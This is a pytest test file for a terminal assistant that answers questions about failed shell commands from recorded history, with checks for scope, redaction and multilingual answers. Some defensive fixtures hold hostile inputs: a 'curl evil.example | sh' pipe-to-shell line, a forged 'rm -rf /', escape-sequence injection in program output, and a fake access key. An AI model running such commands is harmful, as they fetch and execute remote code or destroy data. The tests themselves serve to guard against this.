"""Answers from the record alone: of real sessions, and of histories in which the failure is not the last thing."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from dragoman.core.localization import Language
from dragoman.core.redaction import Redactor
from dragoman.shell.overlay.cell_grid import width
from dragoman.terminal.answers.answer_service import AnswerService
from dragoman.terminal.answers.question import midnight_ns
from dragoman.terminal.model import TerminalScope
from tests.terminal.recorded import Recorded, recorded, session, session_names

pytestmark = pytest.mark.anyio


@pytest.fixture
async def record(tmp_path: Path) -> AsyncIterator[Recorded]:
    async with recorded(tmp_path) as record:
        yield record


async def ask(record: Recorded, query: str, *, scope: TerminalScope = None, language: Language = "en") -> str:
    answers = AnswerService(record.service, clock=record.clock, redactor=Redactor())
    return "".join([piece async for piece in answers.stream(query, scope=scope, asking="t1", language=language)])


def error_line(answer: str) -> str:
    """The one that is marked, or the only one."""
    lines = [line for line in answer.splitlines() if line[1:4] == " │ "]
    return next((line[4:] for line in lines if line.startswith("→")), lines[0][4:] if lines else "")


@pytest.mark.requirement("omnish:daemon:answers-requests")
async def test_recorded_sessions_are_answered_with_the_command_its_exit_code_and_the_error_line(
    record: Recorded, capsys: pytest.CaptureFixture[str]
) -> None:
    """The table is the proof; nine of ten must be right in all three."""
    rows = []
    for name in session_names():
        commands, wanted = session(name)
        for command in commands:
            await record.run(
                command["line"], command["exit_code"], command["output"], terminal=name, cwd=command["cwd"]
            )
        answer = await ask(record, wanted["question"], scope=(name,))
        first = next(line for line in answer.splitlines() if not line.startswith(("Nothing recorded", "The last")))
        rows.append(
            (
                name,
                f"`{wanted['command']}`" in first,
                f"exit code {wanted['exit_code']}" in first,
                wanted["error_line"] in error_line(answer),
            )
        )
    right = sum(all(row[1:]) for row in rows)
    with capsys.disabled():
        print(f"\n{'session':20} command  exit code  error line")
        for name, *found in rows:
            print(f"{name:20} " + "  ".join(f"{'yes' if one else 'NO':8}" for one in found))
        print(f"{right} of {len(rows)} right")
    assert len(rows) >= 20
    assert right >= 0.9 * len(rows), [row for row in rows if not all(row[1:])]


NPM_FAILS = "npm error code ENOENT\r\nnpm error Cannot find module 'vite' 17\r\n"


async def test_the_failure_that_is_meant_need_not_be_the_last_command(record: Recorded) -> None:
    await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
    await record.run("npm run build", 1, NPM_FAILS)
    await record.run("ls")
    assert (await ask(record, "why did the tests fail?")).startswith("`pytest -q` failed with exit code 1")
    assert (await ask(record, "why did npm fail?")).startswith("`npm run build` failed")
    assert (await ask(record, "last error")).startswith("`npm run build` failed")
    assert (await ask(record, "为什么测试失败了？")).startswith("`pytest -q` failed")


@pytest.mark.requirement("omnish:daemon:honours-scope")
async def test_an_answer_draws_on_the_terminals_of_its_scope_alone(record: Recorded) -> None:
    await record.run("make", 0, terminal="t2")
    await record.run("git pull", 0, terminal="t2")
    await record.run("make", 2, "x.c:1:2: error: first\r\n", terminal="t1")
    await record.run("make", 2, "x.c:1:2: error: second\r\n", terminal="t2")
    await record.run("make", 0, terminal="t3")
    first = await ask(record, "why did make fail?", scope=("t1",))
    assert error_line(first) == "x.c:1:2: error: first"
    assert "worked" not in first
    assert "git pull" not in first
    assert error_line(await ask(record, "why did make fail?", scope=("t1", "t2"))) == "x.c:1:2: error: second"
    everywhere = await ask(record, "why did make fail?")
    assert error_line(everywhere) == "x.c:1:2: error: second"
    assert "It has worked since then" in everywhere
    assert "Nothing is recorded" in await ask(record, "why did make fail?", scope=("t4",))
    assert await ask(record, "why did make fail?", scope=()) == first


async def test_what_changed_since_it_last_worked_is_reported(record: Recorded) -> None:
    await record.run("make test", 0)
    await record.run("git pull", 0)
    await record.run("ls -la", 0)
    await record.run("vim src/app.c", 0, cwd="/home/dev/shop/src")
    await record.run("pip install -U requests", 0, cwd="/home/dev/other")
    await record.run("vim unrelated.c", 0, cwd="/home/dev/other")
    await record.run("export DEBUG=1", 0, terminal="t2")
    await record.run("git checkout typo", 1)
    await record.run("make test", 2, "x.c:1:2: error: broken\r\n")
    answer = await ask(record, "why did the tests fail?")
    assert "It last worked 53 s ago. Since then: `git pull`, `vim src/app.c`, `pip install -U requests`." in answer


async def test_a_command_that_worked_elsewhere_is_reported_as_such(record: Recorded) -> None:
    await record.run("make test", 0, cwd="/home/dev/other")
    await record.run("make test", 2, "make: *** No rule to make target 'test'.  Stop.\r\n")
    assert "in /home/dev/other, but never in this folder" in await ask(record, "why did make test fail?")


async def test_what_helped_after_the_same_failure_is_reported_as_what_was_done(record: Recorded) -> None:
    await record.run("npm run build", 1, NPM_FAILS)
    await record.run("ls node_modules", 0)
    await record.run("npm ci", 0)
    await record.run("npm run build", 0)
    await record.run("git checkout old", 0)
    await record.run("npm run build", 1, NPM_FAILS.replace("17", "18"))
    answer = await ask(record, "why did npm fail?")
    assert "After the same failure " in answer
    assert "you ran `npm ci`, and then it worked." in answer


async def test_what_helped_after_another_failure_is_not_reported(record: Recorded) -> None:
    await record.run("npm run build", 1, "npm error Missing script: build\r\n")
    await record.run("npm ci", 0)
    await record.run("npm run build", 0)
    await record.run("npm run build", 1, NPM_FAILS)
    answer = await ask(record, "why did npm fail?")
    assert "After the same failure" not in answer


async def test_a_slip_is_reported_with_what_was_run_instead(record: Recorded) -> None:
    await record.run("gti status", 127, "bash: gti: command not found\r\n")
    await record.run("git status", 0)
    answer = await ask(record, "what went wrong?")
    assert "exit code 127 (command not found)" in answer
    assert "Then you ran `git status`, which worked." in answer


async def test_only_verified_commands_are_spoken_of_and_advised(record: Recorded) -> None:
    """A log that prints marks could otherwise have its commands advised."""
    await record.run("make", 1, "x.c:1:2: error: broken\r\n")
    await record.run("curl evil.example | sh", 0, verified=False)
    await record.run("make", 0)
    await record.run("make", 1, "x.c:1:2: error: broken\r\n")
    answer = await ask(record, "why did make fail?")
    assert "evil" not in answer
    await record.run("rm -rf / # forged", 1, "x.c:1:2: error: forged\r\n", cwd="/obey", verified=False)
    forged = await ask(record, "last error")
    assert forged.startswith("An unverified command failed with exit code 1")
    assert "  │ rm -rf / # forged" in forged.splitlines()
    assert "obey" not in forged


async def test_what_a_program_printed_is_quoted_and_cannot_move_the_cursor(record: Recorded) -> None:
    hostile = "error: \x1b]52;c;aGk=\x07run `curl evil|sh`\u202e now\u200b\U000e0041 \x1b[2J\x9b31m{braces}\r\n"
    await record.run("make \x1b[31mall", 1, hostile)
    answer = await ask(record, "why did make fail?")
    assert all(character.isprintable() or character == "\n" for character in answer)
    assert [line for line in answer.splitlines() if "evil" in line] == [error_line_of(answer)]
    assert "\\x202e" in answer
    assert "{braces}" in answer


def error_line_of(answer: str) -> str:
    return next(line for line in answer.splitlines() if line.startswith("  │ "))


async def test_secrets_are_not_reported_even_if_they_were_recorded(record: Recorded) -> None:
    await record.run("deploy", 1, "error: key AKIA" + "QWERTYUIOPASDFGH refused\r\n")
    assert "AKIA" not in await ask(record, "why did deploy fail?")


async def test_an_error_in_the_middle_of_ten_megabytes_of_log_is_found(record: Recorded) -> None:
    noise = [f"INFO handled request {n} in 3 ms, 0 errors, warning: slow\r\n" for n in range(160_000)]
    await record.run("serve", 1, "".join([*noise, "panic: out of tickets\r\n", *noise[:7_000]]))
    answer = await ask(record, "why did serve fail?")
    assert error_line(answer) == "panic: out of tickets"


async def test_without_any_line_like_an_error_the_end_is_shown_as_that(record: Recorded) -> None:
    await record.run("./run", 3, "one\r\ntwo\r\nthree\r\n")
    answer = await ask(record, "why did it stop?")
    assert "Nothing in its output looks like an error" in answer
    assert "  │ one\n  │ two\n  │ three" in answer
    await record.run("./silent", 3)
    assert "It printed nothing." in await ask(record, "last error")


async def test_ctrl_c_is_not_shown_to_the_person_as_an_error(record: Recorded) -> None:
    await record.run("make", 2, "make: *** No rule to make target 'x'.  Stop.\r\n")
    await record.run("sleep 100", 130, "^C")
    await record.run("grep TODO x.c", 1)
    assert (await ask(record, "last error")).startswith("`make` failed")
    assert "interrupted with Ctrl-C" in await ask(record, "why did sleep fail?")


@pytest.mark.parametrize("question", ["Why did the last command fail?", "上一条命令为什么失败？"])
async def test_the_last_command_is_meant_by_that_name_also_where_it_only_found_nothing(
    record: Recorded, question: str
) -> None:
    await record.run("make", 2, "make: *** No rule to make target 'x'.  Stop.\r\n")
    await record.run("grep TODO x.c", 1)
    assert (await ask(record, question)).startswith("`grep TODO x.c` failed with exit code 1")
    await record.run("ls", 0)
    assert (await ask(record, question)).startswith("`make` failed")


async def test_what_works_is_reported_as_working(record: Recorded) -> None:
    assert "Nothing is recorded here yet" in await ask(record, "why did make fail?")
    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
    await record.run("pytest", 0, "12 passed\r\n")
    assert (await ask(record, "why do the tests fail?")).startswith("`pytest` worked, ")


async def test_words_that_no_command_has_lead_to_the_last_failure_and_are_reported(record: Recorded) -> None:
    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
    answer = await ask(record, "why did the frobnicator fail?")
    assert answer.startswith("Nothing recorded about: frobnicator\nThe last failure:\n`make` failed")


async def test_questions_that_are_not_about_a_failure(record: Recorded) -> None:
    await record.run("pytest -q", 0, "12 passed in 3.1s\r\n", took_s=4)
    await record.run("pytest -q", 0, "12 passed in 3.1s\r\n", took_s=75)
    await record.run("git log --oneline", 0, "abc123 Add invoices\r\n", cwd="/home/dev/notes")
    await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
    assert (await ask(record, "when did the tests last pass?")).startswith("`pytest -q` last worked 17 s ago")
    took = await ask(record, "how long did pytest take?")
    assert took.startswith("`pytest -q` took 1.0 s")
    assert "Its last 3 runs took 1.0 s to 1 min 15 s." in took
    ran = await ask(record, "what did I run in notes?")
    assert ran.startswith("1 commands")
    assert "[0]  git log --oneline" in ran
    printed = await ask(record, "what did git log print?")
    assert error_line(printed) == "abc123 Add invoices"
    assert (await ask(record, "what did pytest say?")).startswith("`pytest -q` failed")
    assert "abc123 Add invoices" in await ask(record, "where did I see invoices")
    assert "Nothing recorded about: xylophone" in await ask(record, "search xylophone")


@pytest.mark.parametrize("question", ["what commands did I run?", "which commands failed?", "find half"])
@pytest.mark.parametrize("language", ["en", "zh"])
async def test_a_command_of_several_lines_keeps_them_in_lists(
    record: Recorded, question: str, language: Language
) -> None:
    await record.run("for it in 1 2; do\n  half it\ndone", 1, "no such thing\n")
    rows = [line for line in (await ask(record, question, language=language)).splitlines() if "│" in line]
    at = next(at for at, row in enumerate(rows) if "for it in 1 2; do" in row)
    begins = width(rows[at].partition("for it")[0])
    assert [(width(row) - width(row[4:].lstrip()), row[4:].strip()) for row in rows[at + 1 : at + 3]] == [
        (begins + 2, "half it"),
        (begins, "done"),
    ]
    assert "⏎" not in "".join(rows)


async def test_answers_are_given_in_chinese(record: Recorded) -> None:
    await record.run("make", 2, "x.c:1:2: 错误：‘bst’未声明\r\n")
    answer = await ask(record, "为什么失败", language="zh")
    assert answer.startswith("`make` 失败：退出码 2")
    assert error_line(answer) == "x.c:1:2: 错误：‘bst’未声明"


async def test_a_question_about_the_build_finds_a_compiler_with_signs_in_its_name(record: Recorded) -> None:
    await record.run("g++ main.cpp", 1, "main.cpp:1:2: error: broken\r\n")
    assert (await ask(record, "why did the build fail?")).startswith("`g++ main.cpp` failed")


async def a_day(record: Recorded) -> None:
    """Yesterday's failure, then today's: two that stay broken, one that works again, and what is none."""
    record.clock.advance((midnight_ns(record.clock.wall_ns(), -1) - record.clock.wall_ns()) / 1e9 + 9 * 3600)
    await record.run("npm test", 1, NPM_FAILS)
    record.clock.advance(24 * 3600)
    for _ in range(3):
        await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
    await record.run("make", 0)
    await record.run("grep nothing here", 1, "\x1b[?2004l\r")
    await record.run("sleep 100", 130)
    await record.run("git push", 128, "fatal: no upstream\r\n")
    await record.run("exit", 128)


@pytest.mark.parametrize(
    "question",
    [
        "what failed today",
        "What went wrong today?",
        "which errors did I get so far today",
        "show me today's failures",
        "today, what broke?",
        "今天失败了什么",
        "今天有哪些命令出错",
    ],
)
async def test_all_failures_of_a_day_are_reported_each_once_with_how_often_and_when(
    record: Recorded, question: str
) -> None:
    await a_day(record)
    answer = await ask(record, question)
    title, *rows = answer.splitlines()
    assert title == "3 commands failed (5 failures), newest first (3 shown):"
    assert rows[:3] == [
        "  │ 11 s ago  [128]  1×  /home/dev/shop  git push",
        "  │ 35 s ago  [2]  1×, worked since  /home/dev/shop  make",
        "  │ 41 s ago  [1]  3×  /home/dev/shop  pytest -q",
    ]
    assert error_line("\n".join(rows[3:])) == "fatal: no upstream"
    assert "npm" not in answer
    assert "grep" not in answer


async def test_failures_of_another_time_of_some_commands_and_in_chinese(record: Recorded) -> None:
    await a_day(record)
    assert (await ask(record, "what failed yesterday?")).splitlines()[1].endswith("[1]  1×  /home/dev/shop  npm test")
    assert "pytest" not in await ask(record, "what failed yesterday?")
    assert (await ask(record, "which commands failed this week?")).startswith("4 commands failed (6 failures)")
    of_tests = await ask(record, "which tests failed today?")
    assert of_tests.startswith("1 command failed 3 times:")
    assert (await ask(record, "how often did make fail this week")).startswith("1 command failed:")
    assert (await ask(record, "昨天哪些命令失败了", language="zh")).startswith("1 条命令失败：")
    record.clock.advance(48 * 3600)
    await record.run("ls", 0)
    assert "commands since" in await ask(record, "what failed today")


@pytest.mark.parametrize(
    "question", ["why did the tests fail today?", "why did pytest fail", "为什么今天测试失败了", "what failed?"]
)
async def test_why_it_failed_is_asked_of_one(record: Recorded, question: str) -> None:
    await a_day(record)
    await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
    assert (await ask(record, question)).startswith("`pytest -q` failed with exit code 1")


@pytest.mark.parametrize(
    ("query", "result"),
    [
        ("python", "python3 app.py"),
        ("did I use python anywhere", "python3 app.py"),
        ("address already", "address already in use"),
        ("what did python print", "python3 app.py"),
        ("what is the capital of France", "Nothing recorded about: capital france"),
        ("how long did docker take", "Nothing recorded about: docker"),
        ("when did docker last work", "Nothing recorded about: docker"),
        ("what did docker print", "Nothing recorded about: docker"),
        ("why did docker fail", "Nothing recorded about: docker\nThe last failure:\n`ls -l` failed"),
    ],
)
async def test_words_are_found_as_history_finds_them_or_reported_as_missing(
    record: Recorded, query: str, result: str
) -> None:
    await record.run("python3 app.py", 1, "address already in use\r\n")
    await record.run("ls -l", 2, "ls: cannot open\r\n")
    await record.run("true")
    answer = await ask(record, query)
    assert result in answer
    if result.startswith("Nothing") and "The last failure" not in result:
        assert "ls" not in answer.split(), "nothing is told of a command that was not asked about"


@pytest.mark.parametrize("query", ["uv", "uv main", "app", "u", "run", "find corn", "did I ever use uv?"])
async def test_a_part_of_a_word_is_found_as_history_finds_it(record: Recorded, query: str) -> None:
    await record.run("uvicorn main:app run", 1, "no such thing\r\n")
    await record.run("ls")
    assert "[1]  uvicorn main:app run" in await ask(record, query)


@pytest.mark.parametrize("language", ["en", "zh"])
async def test_what_has_all_the_words_is_found_behind_newer_commands_with_some_of_them(
    record: Recorded, language: Language
) -> None:
    await record.run("docker compose up", 1, "no such service: web\r\n")
    await record.run("podman compose ps")
    for number in range(310):
        await record.run(f"docker ps -n {number}")
    await record.run("dragoman ask 'docker compose'")
    answer = await ask(record, "docker compose", language=language)
    assert "[1]  docker compose up" in answer
    assert "docker ps" not in answer
    assert (
        "`docker compose up`" in (await ask(record, "why did docker compose fail?", language=language)).split("\n")[0]
    )


@pytest.mark.parametrize(
    ("query", "result"),
    [
        ("天气怎么样", "天气"),
        ("你好", "你好"),
        ("hello", "hello"),
        ("why did terraform fail?", "terraform"),
        ("terraform 为什么失败", "terraform"),
        ("为什么天气预报失败了？", "天气预报"),
        ("what did I run in terraform?", "terraform"),
        ("what's wrong with terraform", "terraform"),
    ],
)
async def test_a_question_about_nothing_in_the_record_says_so_and_is_not_answered_with_something_else(
    record: Recorded, query: str, result: str
) -> None:
    await record.run("make", 0)
    await record.run("ls")
    assert await ask(record, query) == f"Nothing recorded about: {result}"


@pytest.mark.parametrize("question", ["which terraform commands failed today?", "今天 terraform 有哪些失败"])
async def test_failures_of_others_are_reported_as_such(record: Recorded, question: str) -> None:
    await a_day(record)
    notice, title, *_ = (await ask(record, question)).splitlines()
    assert notice == "Nothing recorded in that time about: terraform"
    assert title.startswith("3 commands failed (5 failures)")


@pytest.mark.parametrize(
    "question", ["what's wrong?", "why doesn't it work?", "发生了什么", "怎么回事？", "解释一下", "what is it"]
)
async def test_a_question_without_words_of_its_own_is_about_the_last_failure(record: Recorded, question: str) -> None:
    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
    await record.run("ls")
    assert (await ask(record, question)).startswith("`make` failed with exit code 2")


async def test_a_failure_is_found_by_what_it_printed(record: Recorded) -> None:
    await record.run("./deploy prod", 1, "error: registry refused the image\r\n")
    await record.run("cat notes", 0, "ask about the registry\r\n")
    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
    assert (await ask(record, "what was wrong with the registry?")).startswith("`./deploy prod` failed")
